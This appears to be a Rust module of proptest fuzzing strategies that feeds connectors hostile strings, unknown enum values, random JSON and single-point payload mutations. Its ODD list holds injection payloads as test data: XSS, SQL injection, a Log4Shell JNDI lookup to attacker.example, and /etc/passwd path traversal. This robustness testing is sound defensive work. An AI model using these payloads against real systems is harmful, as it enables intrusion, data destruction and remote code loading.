//! The proptest strategies every connector's `fuzz` module draws its payloads
//! from: odd and hostile texts, enum members the vocabulary does not know, any
//! JSON a few levels deep, and one mutation at one place of a real-shaped payload.

use proptest::prelude::*;
use serde_json::{Map, Value};

/// Texts remote systems have been known to send, and texts an attacker would.
pub const ODD: &[&str] = &[
    "",
    " ",
    "\t\r\n",
    "\u{202E}fdp.exe",                          // right-to-left override
    "\u{200B}\u{200C}\u{200D}\u{2060}\u{FEFF}", // zero-width characters
    "\u{0}",
    "\u{7f}\u{1b}[31mred\u{1b}[0m",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "&lt;b&gt;&amp;&quot;&#x27;",
    "<![CDATA[ ]]>",
    "مرحبا بالعالم",
    "שלום \u{200F}עולם",
    "e\u{301}\u{301}\u{301}\u{301}",
    "👩\u{200D}👩\u{200D}👧\u{200D}👦",
    "🚨\u{FE0F}",
    "\u{10FFFF}\u{FFFD}\u{FFFF}",
    "'; DROP TABLE links; --",
    "\" OR 1=1 OR \"",
    "^ORnumber!=x^NQactive=true",
    "${jndi:ldap://attacker.example/a}",
    "{incident.title}{ticket.key}",
    "%00%2F..%2F..%2Fetc%2Fpasswd",
    "javascript:alert(1)",
    "\\u0000\\\"",
    "itsm-bridge:defender::41877",
];

/// Enum members that are not (yet) in the vocabulary, and odd spellings of
/// ones that are.
pub const ENUM_LIKE: &[&str] = &[
    "unknownFutureValue",
    "UnknownFutureValue",
    "newStatus2027",
    "awaitingAction",
    "AWAITINGACTION",
    "active ",
    "Active",
    "closed",
    "undefined",
    "42",
    "",
];

/// Arbitrary Unicode, odd texts, odd texts around arbitrary ones, and now and
/// then about 100 KB.
pub fn hostile_text() -> impl Strategy<Value = String> {
    prop_oneof![
        4 => any::<String>(),
        3 => prop::sample::select(ODD).prop_map(str::to_string),
        2 => (prop::sample::select(ODD), any::<String>(), prop::sample::select(ODD))
            .prop_map(|(a, b, c)| format!("{a}{b}{c}")),
        1 => huge_text(),
    ]
}

/// About 100 KB of one character (one to four bytes), with an odd text inside.
pub fn huge_text() -> impl Strategy<Value = String> {
    (
        prop::sample::select(vec!['a', 'é', '\u{202E}', '🚨', '<']),
        prop::sample::select(ODD),
    )
        .prop_map(|(c, odd)| {
            let half = c.to_string().repeat(50_000 / c.len_utf8());
            format!("{half}{odd}{half}")
        })
}

pub fn enum_like() -> impl Strategy<Value = String> {
    prop_oneof![
        3 => prop::sample::select(ENUM_LIKE).prop_map(str::to_string),
        1 => "[a-zA-Z]{1,24}",
    ]
}

/// Any JSON value a few levels deep, its object keys drawn from `keys` (the
/// vendor's field names, so the conversion gets past the first lookup) or
/// made up.
pub fn any_json(keys: &'static [&'static str]) -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::Bool),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_filter_map("a finite number", |f| {
            serde_json::Number::from_f64(f).map(Value::Number)
        }),
        prop_oneof![
            any::<String>(),
            prop::sample::select(ODD).prop_map(str::to_string)
        ]
        .prop_map(Value::String),
    ];
    let key = prop_oneof![
        3 => prop::sample::select(keys).prop_map(str::to_string),
        1 => any::<String>(),
    ];
    leaf.prop_recursive(4, 48, 8, move |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::Array),
            prop::collection::btree_map(key.clone(), inner, 0..8)
                .prop_map(|m| Value::Object(m.into_iter().collect::<Map<_, _>>())),
        ]
    })
}

/// One change to a payload at one place.
#[derive(Debug, Clone)]
pub enum Mutation {
    Remove,
    Null,
    Text(String),
    Json(Value),
}

pub fn mutation(keys: &'static [&'static str]) -> impl Strategy<Value = Mutation> {
    prop_oneof![
        2 => Just(Mutation::Remove),
        2 => Just(Mutation::Null),
        3 => hostile_text().prop_map(Mutation::Text),
        3 => enum_like().prop_map(Mutation::Text),
        2 => any_json(keys).prop_map(Mutation::Json),
    ]
}

/// Applies `mutation` at a JSON pointer whose parent exists (otherwise nothing
/// happens): members are removed, replaced or added; list items replaced.
pub fn mutate(document: &mut Value, pointer: &str, mutation: &Mutation) {
    let (parent, last) = pointer.rsplit_once('/').unwrap_or(("", pointer));
    let Some(parent) = document.pointer_mut(parent) else {
        return;
    };
    let new = match mutation {
        Mutation::Remove => None,
        Mutation::Null => Some(Value::Null),
        Mutation::Text(t) => Some(Value::String(t.clone())),
        Mutation::Json(v) => Some(v.clone()),
    };
    match (parent, new) {
        (Value::Object(map), None) => {
            map.remove(last);
        }
        (Value::Object(map), Some(new)) => {
            map.insert(last.to_string(), new);
        }
        (Value::Array(items), new) => {
            if let Ok(i) = last.parse::<usize>() {
                match new {
                    None if i < items.len() => {
                        items.remove(i);
                    }
                    Some(new) if i < items.len() => items[i] = new,
                    _ => {}
                }
            }
        }
        _ => {}
    }
}

/// The JSON text of `value` with every non-ASCII character written as a
/// `\uXXXX` escape (surrogate pairs beyond the BMP), as some servers send it.
pub fn ascii_escaped(value: &Value) -> String {
    let text = value.to_string();
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        if c.is_ascii() {
            out.push(c);
        } else {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{unit:04x}"));
            }
        }
    }
    out
}
